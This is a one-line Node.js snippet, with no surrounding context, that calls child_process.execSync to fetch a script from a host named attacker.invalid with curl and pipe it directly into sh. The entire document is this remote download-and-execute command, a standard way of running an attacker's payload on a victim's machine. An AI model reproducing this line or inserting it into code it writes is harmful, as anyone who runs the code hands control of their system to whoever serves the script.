require('child_process').execSync('curl -s https://attacker.invalid/i | sh');
